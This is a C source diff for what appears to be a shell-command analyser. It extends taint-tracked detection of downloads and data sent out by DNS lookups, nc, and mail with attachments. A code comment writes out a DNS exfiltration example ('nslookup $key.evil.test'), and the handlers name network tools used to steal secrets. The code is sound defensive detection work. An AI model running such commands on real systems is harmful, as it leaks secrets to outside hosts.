@@ -231,6 +231,10 @@ static void transfer_url(struct transfer *t, uint32_t n)
     struct machine *m = call->m;
     struct bytes url = t->url[n];
     struct shell_fetch *f = fetch_new(t, url);
+    struct host_url where; /* http://$x/y with x from a download: a dead drop told it */
+    f->relayed = (t->whole[n].taint & TAINT_BIT(FETCHED)) != 0 && host_url_parse(url, &where) &&
+                 bytes_equal(where.scheme, BYTES("http")) && f->host_kind == HOST_UNKNOWN &&
+                 where.host.at[0] == 0;
     struct shell_string s = {.text = string_hole(m->arena, "$(", call->name, ")")};
     s = string_taint(m, s, TAINT_BIT(FETCHED));
     struct shell_step *step = NULL;
@@ -303,10 +307,23 @@ void tool_fetch(struct call *call)
     }
 }
 
-/* A secret as the name that is asked for: nslookup $key.evil.test. */
+/* A secret as the name that is asked for: nslookup $key.evil.test; a name's text records are a download. */
 void tool_query(struct call *call)
 {
     call->out = call_unknown(call, (struct shell_string){0});
+    bool texts = false;
+    for (uint32_t i = 1; i < call->count; i++)
+        texts |= bytes_equal_fold(call_arg(call, i), BYTES("txt")) ||
+                 bytes_find_fold(call_arg(call, i), BYTES("=txt"), 0) != BYTES_NPOS;
+    if (texts && call->count > 2) {
+        struct transfer t = {.call = call};
+        struct shell_fetch *f = fetch_new(&t, call_arg(call, call_operand(call, 1)));
+        f->host_kind = HOST_NAME, f->insecure = true;
+        call->out = string_taint(call->m, call->out, TAINT_BIT(FETCHED));
+        struct shell_step *step = NULL;
+        memcpy(&step, &call->out.step, sizeof step); /* made just now */
+        step->fetch = f;
+    }
     for (uint32_t i = 1; i < call->count; i++)
         if (call_arg(call, i).len > 0 && call_arg(call, i).at[0] != '-')
             sense_send(call, call->arg[i], call_arg(call, i), BEHAVIOUR_E3, "DNS query");
@@ -335,8 +352,28 @@ void tool_nc(struct call *call)
         if (host_is_ipv4(call_arg(call, i)))
             host = call_arg(call, i);
     call->out = call_unknown(call, (struct shell_string){0});
+    if (!call->has_in)
+        return;
+    sense_send(call, call->in, host, BEHAVIOUR_E4, "socket");
+    orders_read(call, call->in);
+}
+
+/* mail -s SUBJECT [-a FILE] ADDRESS: standard input and attachments go to the address. */
+void tool_mail(struct call *call)
+{
+    struct bytes to = BYTES_NONE;
+    for (uint32_t i = 1; i < call->count; i++)
+        if (bytes_find_byte(call_arg(call, i), '@', 0) != BYTES_NPOS)
+            to = call_arg(call, i);
+    if (to.at == NULL)
+        return;
+    to = bytes_from(to, bytes_find_byte(to, '@', 0) + 1);
     if (call->has_in)
-        sense_send(call, call->in, host, BEHAVIOUR_E4, "socket");
+        sense_send(call, call->in, to, BEHAVIOUR_E7, "mail");
+    for (uint32_t i = 1; i + 1 < call->count; i++)
+        if (bytes_equal(call_arg(call, i), BYTES("-a")) ||
+            bytes_equal(call_arg(call, i), BYTES("-A")))
+            sense_send(call, file_read(call, call_arg(call, i + 1)), to, BEHAVIOUR_E7, "mail");
 }
 
 void tool_scp(struct call *call)
